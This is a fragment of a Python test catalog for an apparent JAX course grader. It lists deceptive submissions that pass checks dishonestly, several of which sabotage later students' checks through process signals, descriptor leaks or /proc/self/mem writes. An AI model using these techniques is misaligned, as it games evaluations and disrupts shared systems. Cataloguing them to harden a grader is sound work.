        False,
    ),
    Sneaky(
        "06.scale_column",
        "called plainly, column j is scaled inside m's own buffer and m returned, as "
        "jax.ops.index_mul's NumPy users expect; only under jit the .at[] form",
        _scale_column_in_place,
        False,
    ),
    Sneaky(
        "08.fit",
        "the loss recomputed on every pass (the mistake the check names), through "
        "step.step, the jitted function the grader's counting guard exposes, so the guard "
        "never sees the second call",
        _fit_past_the_guard,
        False,
    ),
    Sneaky(
        "03.derivative_by_hand",
        "the derivative worked out by hand, then laundered through jax.grad of a linear "
        "function (s -> sum(s * by_hand)), so a jax.grad both is in it and makes the values",
        _derivative_laundered_through_grad,
        False,
    ),
    Sneaky(
        "09.per_example_grads",
        "no vmap and no grad: the log loss's gradient derived by hand and broadcast over the "
        "columns; the feedback describes it as vmap(grad(...))",
        _per_example_grads_by_hand,
        False,
    ),
    Sneaky(
        "15.fixed_shape",
        "computed with NumPy on the host, x read through the buffer protocol "
        "(np.frombuffer(memoryview(x))), which the host-copy detector does not watch "
        "(np.from_dlpack is caught)",
        _prefix_means_on_host_by_memoryview,
        False,
    ),
    Sneaky(
        "09.two_views",
        "ids never read: each row's noise key is folded from the row's own bits (a "
        "fingerprint of its values), which survives the grader's shuffle; the feedback says "
        "'each example's noise made from its id'",
        _views_keyed_by_content,
        False,
    ),
    Sneaky(
        "11.while_grad",
        "the while_loop grad refuses, kept; reverse mode bolted on by a custom_vjp whose "
        "backward pass is jax.jacfwd through the same while_loop (forward mode goes "
        "through it); the feedback praises a max_steps loop it does not have",
        _grow_while_with_forward_mode,
        False,
    ),
    Sneaky(
        "01.overflow_fix",
        "no jnp: v read on the host via memoryview and summed exactly in Python ints, then "
        "wrapped in a jax array; the feedback says 'converted before raising to the power: "
        "float32 ...'",
        _sum_of_powers_in_python_ints,
        False,
    ),
    Sneaky(
        "12.hvp",
        "no JAX differentiation: the tridiagonal Hessian-vector product of the chain written "
        "out by hand; the feedback calls it 'a JVP of the gradient'",
        _hvp_by_hand,
        False,
    ),
    Sneaky(
        "01.center",
        "no jnp: x read on the host through memoryview, centered by NumPy, wrapped back",
        _center_on_the_host,
        False,
    ),
    Sneaky(
        "13.xlogx_gradient",
        "the buggy where kept (the primal still takes log(0)); a custom_vjp swaps in a "
        "hand-written gradient, zero at the ends; the check's NaN-hiding detector misses "
        "it and says 'the unused branch never sees a p where a log's derivative is "
        "infinite'",
        _entropy_with_a_hand_written_gradient,
        False,
    ),
    Sneaky(
        "03.central_difference",
        "right, and on its first call it runs jaxtour.timing.roofline() again (not refused) "
        "under jax.debug_nans/debug_infs, which scan every result on the host: the roof "
        "lesson 15's checks keep is replaced by a far slower one, so a later "
        "15.estimate or 15.bound worked from the roof the notebook printed is judged against "
        "another",
        _central_difference_remeasuring_the_roof,
        True,
    ),
    Sneaky(
        "14.fix_rows",
        "right rows, and meanwhile hosts.start_server() then os.kill(SIGSTOP) on lesson 14's "
        "worker server (a child of the kernel; neither call is refused): every later "
        "hosts.run waits on a frozen server, so a classmate's right 14.global_mean times out "
        "after 120 s, blamed on their code",
        _local_rows_freezing_the_worker_server,
        True,
    ),
    Sneaky(
        "11.scan_ema",
        "no scan at all: an n x n matrix of EMA weights times the series; the feedback "
        "praises a scan carry that does not exist",
        _ema_by_a_square_matrix,
        False,
    ),
    Sneaky(
        "02.mean_loss",
        "the losses stacked by JAX, then read on the host through memoryview and averaged "
        "by NumPy, which the grader's stand-ins do not see; the feedback says 'the mean "
        "taken by JAX'",
        _mean_loss_on_the_host,
        False,
    ),
    Sneaky(
        "09.random_walk",
        "the key drawn once into an integer seed, then keys rebuilt from seed arithmetic: "
        "each key is used once by construction, so the reuse tracker is satisfied, while "
        "walks from nearby seeds share steps",
        _walk_from_a_drawn_seed,
        False,
    ),
    Sneaky(
        "07.clip_negative",
        "right, and on its first call it leaks os.pipe() descriptors up to the process's "
        "limit (keeping 8 free): not refused, never closed; a later 14.global_mean then "
        "reports 'Too many open files' as the classmate's error (or as the machine's fault)",
        _fill_negative_leaking_descriptors,
        True,
    ),
    Sneaky(
        "06.count_labels",
        "right, and it posix_spawns a shell that sends the kernel SIGINT every 0.5 s for "
        "10 s (a process left running; fork is refused, posix_spawn is not): the next "
        "checks, whoever's, end 'interrupted, nothing judged'",
        _count_labels_spawning_an_interrupter,
        True,
    ),
    Sneaky(
        "12.fixed_target",
        "no stop_gradient: the target moves with values, and a custom_vjp returns the "
        "gradients the task asks for, written by hand; the feedback explains the "
        "stop_gradient it does not have",
        _td_loss_with_a_hand_written_gradient,
        False,
    ),
    Sneaky(
        "08.update",
        "right, then lr and decay, Python floats from the grader's reused case list, "
        "rewritten in place (the double at id(f) + 16, via /proc/self/mem): every later "
        "08.update check runs with 3x the rate and decay against the old expectations",
        _update_poking_the_case_floats,
        True,
    ),
    Sneaky(
        "01.arange",
        "np.arange on the host wrapped in jnp.asarray(..., int32) instead of jnp.arange",
        _odds_down_with_numpy,
        False,
    ),
    Sneaky(
        "10.fix_loss",
        "no per-device sums: each device all_gathers the whole padded batch and computes "
        "the mean itself, and a pmean of identical values satisfies out_specs=P(); the "
        "feedback says each device added up its own points",
        _fix_loss_gathering_everything,
        False,
    ),
    Sneaky(
        "03.fix_slopes",
        "right, and it posix_spawns a watcher that sends the kernel SIGALRM whenever "
        "/proc shows a SIGALRM handler installed (a check's time limit armed), aiming to "
        "end every later check as 'timeout' at once (tried: the grader re-arms and judges "
        "normally)",
        _curvatures_spawning_an_alarm_clock,
        True,
    ),
    Sneaky(
        "11.first_two_positive",
        "the eager NumPy version, dynamic shapes and all, run under jit as a "
        "jax.pure_callback; the feedback praises size= and one compiled program",
        _first_two_positive_by_callback,
        False,
    ),
    Sneaky(
        "07.clip_negative",
        "the page's NumPy code, unchanged (boolean-mask assignment), run as a "
        "jax.pure_callback; the feedback praises a fixed-shape masked mean",
        _fill_negative_by_callback,
        False,
    ),
    Sneaky(
        "06.scale_column",
        "NumPy's in-place column update run inside jax.pure_callback, for plain and jitted "
        "calls alike; the feedback credits an .at[] update",
        _scale_column_by_callback,
        False,
    ),
    Sneaky(
        "13.check_prices",
        "a shotgun message: every bad position and every bad price (others masked as -1 "
        "and nan), leaving the check to find the first pair",
        _prices_shotgun_message,
        False,
    ),
    Sneaky(
        "07.static_window",
        "weights left static, the jit cache pre-warmed with the kernels and lengths the "
        "check's trace printed, so that only unseen kernels compile during the check",
        _smooth_static_and_prewarmed,
        False,
    ),
]
